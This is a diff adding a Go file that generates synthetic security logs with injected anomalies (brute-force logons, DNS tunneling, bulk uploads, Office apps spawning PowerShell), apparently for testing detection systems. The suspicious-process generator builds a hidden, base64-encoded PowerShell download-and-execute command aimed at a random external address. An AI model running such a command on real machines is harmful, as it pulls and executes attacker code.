@@ -0,0 +1,175 @@
+package generator
+
+import (
+	"encoding/base64"
+	"fmt"
+	"math/rand"
+	"time"
+)
+
+// AnomalyKind is a kind of injected anomaly.
+type AnomalyKind string
+
+const (
+	// BruteForce is a burst of failed logons of a user from an external address,
+	// ending with a successful one.
+	BruteForce AnomalyKind = "brute_force"
+	// DNSTunneling is a burst of TXT queries of long random subdomains of a domain.
+	DNSTunneling AnomalyKind = "dns_tunneling"
+	// Exfiltration is a series of large uploads from a host to a rare external address.
+	Exfiltration AnomalyKind = "exfiltration"
+	// SuspiciousProcess is an office application spawning encoded PowerShell commands.
+	SuspiciousProcess AnomalyKind = "suspicious_process"
+)
+
+// Anomaly is an anomaly injected among the events of a tenant.
+type Anomaly struct {
+	Kind AnomalyKind
+	// Tenant is the index of the tenant, among TenantIDs.
+	Tenant int
+	// At is the time the anomaly starts, random within the window by default.
+	At time.Time
+	// Count is the number of events of the anomaly, 50 by default.
+	Count int
+}
+
+func (a Anomaly) withDefaults(env *environment, r *rand.Rand) Anomaly {
+	if a.At.IsZero() {
+		a.At = env.cfg.Start.Add(time.Duration(r.Int63n(int64(env.cfg.End.Sub(env.cfg.Start)))))
+	}
+
+	if a.Count <= 0 {
+		a.Count = 50
+	}
+
+	return a
+}
+
+type injector func(env *environment, r *rand.Rand, a Anomaly) []Event
+
+var injectors = map[AnomalyKind]injector{
+	BruteForce:        bruteForce,
+	DNSTunneling:      dnsTunneling,
+	Exfiltration:      exfiltration,
+	SuspiciousProcess: suspiciousProcess,
+}
+
+// burst returns the times of count events spread over d from start.
+func burst(r *rand.Rand, start time.Time, count int, d time.Duration) []time.Time {
+	var times = make([]time.Time, count)
+	for i := range times {
+		times[i] = start.Add(time.Duration(i)*d/time.Duration(count) + time.Duration(r.Int63n(int64(d/time.Duration(count)+1))))
+	}
+
+	return times
+}
+
+func (env *environment) anomalous(a Anomaly, kind Kind, ts time.Time, doc map[string]interface{}) Event {
+	return Event{Kind: kind, TenantID: env.tenant, Time: ts, Anomaly: a.Kind, Doc: doc}
+}
+
+func bruteForce(env *environment, r *rand.Rand, a Anomaly) []Event {
+	h := env.hosts[r.Intn(len(env.hosts))]
+	user := env.users[r.Intn(len(env.users))]
+	source := publicIP(r)
+
+	var events []Event
+
+	for i, ts := range burst(r, a.At, a.Count, 10*time.Minute) {
+		outcome := "failure"
+		if i == a.Count-1 {
+			outcome = "success"
+		}
+
+		doc := env.document(ts, "authentication", "logon", h)
+		doc["event"].(map[string]interface{})["outcome"] = outcome
+		doc["user"] = map[string]interface{}{"name": user}
+		doc["source"] = map[string]interface{}{"ip": source}
+		doc["authentication"] = map[string]interface{}{"method": "password"}
+
+		events = append(events, env.anomalous(a, Auth, ts, doc))
+	}
+
+	return events
+}
+
+func dnsTunneling(env *environment, r *rand.Rand, a Anomaly) []Event {
+	h := env.hosts[r.Intn(len(env.hosts))]
+	domain := randomLabel(r, 8) + ".xyz"
+
+	var events []Event
+
+	for _, ts := range burst(r, a.At, a.Count, 30*time.Minute) {
+		doc := env.document(ts, "network", "dns_query", h)
+		doc["source"] = map[string]interface{}{"ip": h.ip}
+		doc["destination"] = map[string]interface{}{"ip": pick(r, env.resolvers), "port": 53}
+		doc["dns"] = map[string]interface{}{
+			"question":      map[string]interface{}{"name": randomLabel(r, 40+r.Intn(20)) + "." + domain, "type": "TXT"},
+			"response_code": "NOERROR",
+		}
+
+		events = append(events, env.anomalous(a, DNS, ts, doc))
+	}
+
+	return events
+}
+
+func exfiltration(env *environment, r *rand.Rand, a Anomaly) []Event {
+	h := env.hosts[r.Intn(len(env.hosts))]
+	destination := publicIP(r)
+
+	var events []Event
+
+	for _, ts := range burst(r, a.At, a.Count, time.Hour) {
+		bytes := int64(50_000_000 + r.Intn(150_000_000))
+		doc := flow(env, ts, h, destination, 443, "tcp", bytes/1400, bytes, time.Duration(30+r.Intn(90))*time.Second, r)
+
+		// Uploads send most of the bytes.
+		doc["source"].(map[string]interface{})["bytes"] = bytes * 49 / 50
+		doc["destination"].(map[string]interface{})["bytes"] = bytes / 50
+
+		events = append(events, env.anomalous(a, NetFlow, ts, doc))
+	}
+
+	return events
+}
+
+func suspiciousProcess(env *environment, r *rand.Rand, a Anomaly) []Event {
+	var windows []host
+	for _, h := range env.hosts {
+		if h.os == "windows" {
+			windows = append(windows, h)
+		}
+	}
+
+	h := env.hosts[r.Intn(len(env.hosts))]
+	if len(windows) != 0 {
+		h = windows[r.Intn(len(windows))]
+	}
+
+	user := env.users[r.Intn(len(env.users))]
+	parent := pick(r, []string{"winword.exe", "excel.exe", "outlook.exe"})
+
+	var events []Event
+
+	for _, ts := range burst(r, a.At, a.Count, 15*time.Minute) {
+		command := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('http://%s/%s')", publicIP(r), randomLabel(r, 6))
+		encoded := base64.StdEncoding.EncodeToString(utf16(command))
+
+		doc := process(env, ts, h, user, "powershell.exe", parent, "powershell.exe -NoP -W Hidden -EncodedCommand "+encoded, r)
+
+		events = append(events, env.anomalous(a, EDR, ts, doc))
+	}
+
+	return events
+}
+
+// utf16 encodes s in UTF-16LE, as PowerShell expects encoded commands.
+func utf16(s string) []byte {
+	var b = make([]byte, 0, 2*len(s))
+	for _, c := range s {
+		b = append(b, byte(c), byte(c>>8))
+	}
+
+	return b
+}